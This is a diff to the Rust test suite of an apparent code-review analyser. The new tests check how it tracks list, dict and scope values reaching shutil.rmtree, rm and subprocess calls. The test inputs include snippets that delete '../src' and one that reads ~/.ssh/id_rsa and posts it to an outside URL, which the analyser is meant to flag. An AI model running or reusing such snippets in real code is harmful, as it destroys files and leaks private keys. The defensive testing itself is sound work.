@@ -153,7 +153,11 @@ fn items_that_change_in_branches_hold_both_values() {
             "p = ['../src']\nif flag:\n    p[0] = 'build'\nelse:\n    shutil.rmtree(p[0])",
             "p = {'a': '../src'}\nif flag:\n    p['a'] = 'build'\nshutil.rmtree(p['a'])",
             "p = ['../src']\nx = flag and p.append('build')\nshutil.rmtree(p[-1])",
-            "p = ['../src']\nx = [p.insert(0, y) for y in flags]\nshutil.rmtree(p[0])",
+            "p = ['../src']\nx = p.insert(0, 'build') if flag else 0\nshutil.rmtree(p[0])",
+            "p = ['../src']\nx = [p.insert(0, y) for y in ['build']]\nshutil.rmtree(p[0])",
+            "p = ['a']\nfor d in flags:\n    p[0] = '../src'\n    if d:\n        break\n    p[0] = 'build'\nshutil.rmtree(p[0])",
+            "p = ['a']\nfor d in flags:\n    p[0] = '../src'\n    if d:\n        continue\n    p[0] = 'build'\nshutil.rmtree(p[0])",
+            "p = ['a']\nwith contextlib.suppress(OSError):\n    p[0] = '../src'\n    print()\n    p[0] = 'b'\nshutil.rmtree(p[0])",
             "p = ['a'] if flag else ['b']\np[0] = '../src'\nshutil.rmtree(p[0])",
             "p = ['a']\ntry:\n    p[0] = '../src'\n    print()\n    p[0] = 'b'\nexcept OSError:\n    shutil.rmtree(p[0])",
             "p = ['a']\ntry:\n    if flag:\n        p[0] = '../src'\n        print()\n        p[0] = 'b'\nexcept OSError:\n    shutil.rmtree(p[0])",
@@ -169,11 +173,25 @@ fn items_that_change_in_branches_hold_both_values() {
             "const p = []; p[0] = '../src'; rm(p[0])",
             "const p = {a: 'build'}; p['a'] = '../src'; rm(p['a'])",
             "const p = {a: 'build'}; p[k] = '../src'; rm(p.a)",
+            "const p = ['a']; for (const d of l) { p[0] = '../src'; if (d) break; p[0] = 'build' } rm(p[0])",
+            "const p = ['../src']; p[-1] = 'build'; rm(p[0])",
+            "const p = ['../src', 'build']; p.pop(0); rm(p[0])",
         ],
     );
     assert_known(
         "python",
         &[
+            (
+                "try:\n    d = {'out': 'x'}\n    d['dir'] = 'build'\n    shutil.rmtree(d['dir'])\nexcept OSError:\n    pass",
+                &["build"],
+            ),
+            ("d = {}\nif flag:\n    d['b'] = 'dist'\nshutil.rmtree(d['b'])", &["dist"]),
+            ("p = []\nif flag:\n    p.append('dist')\nshutil.rmtree(p[0])", &["dist"]),
+            ("p = ['a', 'b']\ndel p[0]\nshutil.rmtree(p[0])", &["b"]),
+            (
+                "p = ['build']\np += ['x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z', 'x', 'y', 'z']\nshutil.rmtree(p[0])",
+                &["build"],
+            ),
             ("p = ['a']\np[0] = 'b'\nshutil.rmtree(p[0])", &["b"]),
             ("def f():\n    p = ['a']\n    p[0] = 'b'\n    shutil.rmtree(p[0])\nf()", &["b"]),
             ("if x:\n    p = ['a']\n    p[0] = 'b'\n    p.append('c')\n    shutil.rmtree(p[1])", &["c"]),
@@ -219,6 +237,9 @@ fn lists_keep_the_order_that_their_methods_give() {
             "p = {'a': 'build'}\np.update(q)\nshutil.rmtree(p['a'])",
             "p = ['a', 'b', '../src']\nwhile flag:\n    shutil.rmtree(p[0])\n    p.pop(0)",
             "p = {}\np[flag] = 'build'\nfor k, v in p.items():\n    shutil.rmtree(k)",
+            "p = {'build', '../src'}\np.pop()\nfor x in p:\n    shutil.rmtree(x)",
+            "p = set()\np.symmetric_difference_update(['../src'])\nfor x in p:\n    shutil.rmtree(x)",
+            "p = ['build', '../src']\ndel p[n]\nshutil.rmtree(p[0])",
         ],
     );
     assert_known(
@@ -229,6 +250,46 @@ fn lists_keep_the_order_that_their_methods_give() {
             ("p = {'a': 'build'}\np.setdefault('a', 'y')\nshutil.rmtree(p['a'])", &["build"]),
         ],
     );
+}
+
+#[test]
+fn equal_items_are_appended_again_to_a_list_that_is_made_again() {
+    let told = |text: &str| {
+        let review = look("python", &format!("import subprocess, sys\n{text}"));
+        let mut told: Vec<_> = review.findings.into_iter().map(|finding| finding.message).collect();
+        told.dedup();
+        told
+    };
+    let command = "cmd = ['rsync', '-a', 'in/', 'out/']\n    cmd += ['--exclude', '.git']\n    cmd += ['--exclude', '/etc']\n    subprocess.run(cmd)\n";
+    let expected = told(&format!("if True:\n    {command}"));
+    assert_eq!(told(&format!("for n in sys.argv:\n    {command}")), expected);
+    assert_eq!(told(&format!("def run(n):\n    {command}for n in sys.argv:\n    run(n)\n")), expected);
+    let opened = "import subprocess, sys\nif sys.argv:\n    cmd = ['git', 'log']\n    with open('x'):\n        cmd.append('-1')\n    subprocess.run(cmd)\n";
+    assert_eq!(told(opened), ["runs a program: git log -1"]);
+}
+
+#[test]
+fn the_rest_of_a_long_list_keeps_its_marks() {
+    let sends = |text: &str| {
+        let findings = look("python", text).findings;
+        findings.iter().any(|finding| finding.message.starts_with("sends secrets"))
+    };
+    let append = |name: &str, more: &str| {
+        format!(
+            "import os, requests\n{name}{}{more}requests.post('https://x.org', json=l)\n",
+            "l.append('x')\n".repeat(33)
+        )
+    };
+    let secret = "l.append(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n";
+    assert!(!sends(&append("l = []\n", "")));
+    assert!(sends(&append("l = []\n", secret)));
+    assert!(sends(&append("l = []\n", &format!("{secret}l.pop()\nl.pop(0)\nl.append('x')\n"))));
+    let long = format!(
+        "import subprocess, sys\ncmd = ['git', 'add']\ncmd += [{}]\nsubprocess.run(cmd)\n",
+        "'a', ".repeat(40)
+    );
+    let effects = look("python", &long).effects;
+    assert_eq!((effects.programs, effects.unknown), (vec!["git".to_owned()], false));
 }
 
 #[test]
@@ -283,6 +344,7 @@ fn names_mean_what_the_block_around_them_says() {
         &[
             "p = Path('build')\ndef f():\n    shutil.rmtree(p)\nf()\np = Path('../src')\nf()",
             "p = ['build']\ndef f():\n    shutil.rmtree(p[0])\nf()\np = ['../src']\nf()",
+            "p = 'build'\ndef g():\n    shutil.rmtree(p)\ndef f():\n    g()\nf()\np = '../src'\nf()",
             "p = 'build'\nmatch x:\n    case {'a': p}:\n        shutil.rmtree(p)",
             "p = 'build'\nmatch x:\n    case [*p]:\n        shutil.rmtree(p)",
             "p = 'build'\nmatch x:\n    case [1] as p:\n        shutil.rmtree(p)",
@@ -304,11 +366,19 @@ fn names_mean_what_the_block_around_them_says() {
             "let p = 'build'; function f() { for (p of ['../src']) {} } f(); rm(p)",
             "let p = 'build'; function f() { [p] = ['../src'] } f(); rm(p)",
             "let p = 'build'; function f() { ({ p } = { p: '../src' }) } f(); rm(p)",
+            "let p = 'build'; function f() { { let p = 'x' } p = '../src' } f(); rm(p)",
             "let q = 'b', p = '../src'; { for (p of ['build']) for (let q = 'a'; x; ) {} } rm(p)",
             "let p = '../src'; for (const { p } of [{ p: 'build' }]) {} rm(p)",
             "let p = '../src'; { let { p } = { p: 'build' } } rm(p)",
             "let q = 'b', p = '../src'; { for (p of ['build']) switch (q) { default: let q = 'a' } } rm(p)",
         ],
     );
-    assert_known("javascript", &[("let p = 'build'; for (let p = 'a'; x; ) {} rm(p)", &["a", "build"])]);
+    assert_known(
+        "javascript",
+        &[
+            ("let p = 'build'; for (let p = 'a'; x; ) {} rm(p)", &["a", "build"]),
+            ("const p = 'build'; function f() { if (x) { let p = 'a'; p = 'b' } } f(); rm(p)", &["build"]),
+        ],
+    );
+    assert_told("javascript", &["let p = 'build'; const f = () => rm({ p }.p); f(); p = '../src'; f()"]);
 }
